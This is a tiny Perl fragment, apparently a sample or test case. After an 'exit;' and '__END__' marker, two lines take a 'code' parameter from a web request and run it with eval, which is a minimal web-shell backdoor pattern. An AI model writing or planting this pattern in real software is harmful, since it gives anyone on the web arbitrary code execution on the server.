exit;
__END__
my $code = CGI::param('code');
eval $code;
